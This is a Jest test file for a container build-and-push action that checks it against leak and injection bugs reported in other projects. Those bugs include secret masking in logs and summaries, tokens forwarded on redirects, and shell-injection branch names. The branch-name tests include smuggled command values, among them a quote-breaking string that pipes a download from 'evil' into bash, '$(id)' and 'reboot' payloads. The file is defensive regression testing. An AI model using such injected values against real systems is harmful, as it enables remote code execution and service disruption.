import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { canary, leaked } from '../../script/attacks/canary.ts'
import { obey } from '../../script/attacks/obeyed.ts'
import { parseEvent } from '../../src/core/event/parse.ts'
import { parseImage } from '../../src/core/image/image.ts'
import { planBuild } from '../../src/core/plan.ts'
import { problemInMarkdown } from '../../src/core/report/problem.ts'
import { inMarkdown } from '../../src/core/text/table.ts'
import { parseInputs } from '../../src/inputs.ts'
import { gitHubApi } from '../../src/io/github/api.ts'
import { forSummary, job } from '../../src/io/runner/job.ts'
import { missingParts } from '../../src/steps/repositories/completeness.ts'
import { withLoopback } from '../io/registry/loopback.ts'
import {
  basic,
  bearer,
  DIGEST,
  FOUND,
  type Routes,
  withRegistry,
} from '../io/registry/small-registry.ts'
import { inputsOf, recordedEvent } from '../support/fixtures.ts'
import { planOf } from '../support/plan.ts'
import { play } from '../support/play.ts'

/* Leaks and injections that were reported of other actions and clients, tried here. docs/field.md has the list. */

const bearerOnce = (routes: Routes) => bearer(['token'], routes)

const escaped = (text: string) => text.replaceAll('%', '%25').replaceAll('\n', '%0A')

describe('build-push-action#1025: a credential of several lines among the build arguments', () => {
  test('is as hidden in the command line that the log has as it was given', async () => {
    const key = canary('private-key', '', '/+')
    const json = `{\n  "type": "service_account",\n  "private_key": "${key.value}"\n}`
    const { log } = await play({}, { 'build-args': `"GCP=${json.replaceAll('"', '""')}"` })
    const text = [`::add-mask::${escaped(json)}`, ...log].join('\n')
    expect(leaked(log.join('\n'), [key])).toEqual(['private-key'])
    expect(leaked(obey(text).shown, [key])).toEqual([])
  })
})

describe('gh-aw#50769, actions-toolkit#645: a secret in a summary', () => {
  const write = process.stdout.write
  beforeEach(() => {
    process.stdout.write = (() => true) as typeof write
  })
  afterEach(() => {
    process.stdout.write = write
  })

  test('is hidden as Markdown writes it, whatever it has in it', () => {
    const secret = canary('secret', '', 'a_b*c|d`e<f>[g](h)\\')
    job.mask(secret.value)
    const summary = forSummary(`| ${inMarkdown(secret.value)} | \`${secret.value}\` |`)
    expect(leaked(summary, [secret])).toEqual([])
    expect(summary).toContain('***')
  })

  test.each(['say "so" twice', 'a`b', 'two  spaces', '("x")'])(
    'and where a message that quotes %j makes code of a part of it',
    (middle) => {
      const secret = canary('secret', '', ` ${middle} `)
      job.mask(secret.value)
      const problem = problemInMarkdown(
        `the "password" is ${secret.value}, or "${secret.value}"`,
        '',
      )
      expect(leaked(problem.join('\n'), [secret])).toEqual(['secret'])
      expect(leaked(forSummary(problem.join('\n')), [secret])).toEqual([])
    },
  )
})

describe('go-containerregistry#2349: a registry sends a read on to another host, which answers 401', () => {
  test.each(['Bearer', 'Basic'])(
    'and does not get the %s token of the registry',
    async (scheme) => {
      const challenge = {
        status: 401,
        headers: { 'www-authenticate': `${scheme} realm="http://127.0.0.1:9/t"` },
      }
      await withLoopback(
        () => challenge,
        async (other) => {
          const moved = { status: 302, headers: { location: `http://${other.host}/x` } }
          const locks = scheme === 'Bearer' ? bearerOnce : basic
          await withRegistry(
            locks(({ url }) => (/manifests|blobs\/sha/.test(url) ? moved : FOUND)),
            async (client) => {
              await client.getManifest('acme/app', 'v1').catch(() => undefined)
              await client.getBlob('acme/app', DIGEST).catch(() => undefined)
              expect(other.asked.length).toBeGreaterThan(0)
              expect(other.asked.filter(({ headers }) => headers.authorization)).toEqual([])
            },
          )
        },
      )
    },
  )
})

describe('regclient#1095: a layer that names addresses of its own', () => {
  test('is looked for in its registry alone', async () => {
    await withLoopback(
      () => ({ status: 401 }),
      async (other) => {
        const urls = [`http://${other.host}/layer`]
        const layers = [
          { digest: DIGEST, size: 2, mediaType: 'application/vnd.oci.image.layer.v1.tar', urls },
        ]
        const text = JSON.stringify({
          schemaVersion: 2,
          config: { digest: DIGEST, size: 2, urls },
          layers,
        })
        await withRegistry(
          basic(() => FOUND),
          async (client) => {
            const manifest = {
              mediaType: 'x',
              digest: DIGEST,
              bytes: new TextEncoder().encode(text),
            }
            const repository = { client, image: parseImage('acme/app') } as never
            expect(await missingParts(repository, manifest)).toEqual([])
            expect(other.asked).toEqual([])
          },
        )
      },
    )
  })
})

describe("go-github#4190: GitHub's API sends a question on to another host", () => {
  const before = process.env['GITHUB_API_URL']
  afterEach(() => {
    if (before === undefined) delete process.env['GITHUB_API_URL']
    else process.env['GITHUB_API_URL'] = before
  })

  test.each([301, 302, 307])('with %i, and that host gets no token', async (status) => {
    await withLoopback(
      () => ({ body: '{}' }),
      (other) =>
        withLoopback(
          () => ({ status, headers: { location: `http://${other.host}/repos/acme/app` } }),
          async ({ host }) => {
            process.env['GITHUB_API_URL'] = `http://${host}`
            const quick = { timeout: 500, attempts: 1, firstWait: 0.001, certificates: '/nowhere' }
            const api = gitHubApi(undefined, { facts: quick, hurried: quick })
            await api
              .repository({ repository: 'acme/app', token: 'ghs_token' })
              .catch(() => undefined)
            expect(other.asked.filter(({ headers }) => headers.authorization)).toEqual([])
          },
        ),
    )
  })
})

describe('branch-names#271: a branch that is called like a command of a shell', () => {
  test.each([
    'zzz";{curl,-sSfL,evil}|bash;#',
    '$(id)',
    'a`id`b',
    "x';reboot;'",
    'a\n::add-mask::x',
  ])('%j gives tags that are only tags', async (branch) => {
    const { env, payload } = recordedEvent('push-branch-dev')
    const ref = `refs/heads/${branch}`
    const event = parseEvent(
      { ...env, GITHUB_REF: ref, GITHUB_REF_NAME: branch },
      { ...(payload as object), ref },
    )
    const inputs = parseInputs(inputsOf('action.yml', { username: 'acme', images: 'acme/app' }))
    const facts = { now: '2026-11-23T06:30:00.000Z', environment: {}, dockerfile: undefined }
    const { naming } = await planBuild(inputs, event, facts)
    for (const text of [...naming.references, naming.version])
      expect(text).toMatch(/^(?:(?:docker\.io\/)?acme\/app:)?[\w.-]+$/)
  })

  test('and an image that calls its version so has none', async () => {
    const { saidVersion } = await import('../../src/core/image/said.ts')
    const version = (text: string) => saidVersion({ 'org.opencontainers.image.version': text })
    expect(['1.2.3', 'v1.2.3-rc.1+5', '$(id)', '1;reboot', 'a b'].map(version)).toEqual([
      ...['1.2.3', 'v1.2.3-rc.1+5', '', '', ''],
    ])
  })
})

test('ssh-action#144: a user name is never hidden, which would say what it is', async () => {
  const plan = await planOf({ username: 'acme', password: 'p' })
  expect(plan.naming.references[0]).toContain('acme')
  const { script } = await play()
  expect(script.filter((line) => line === 'mask acme')).toEqual([])
})
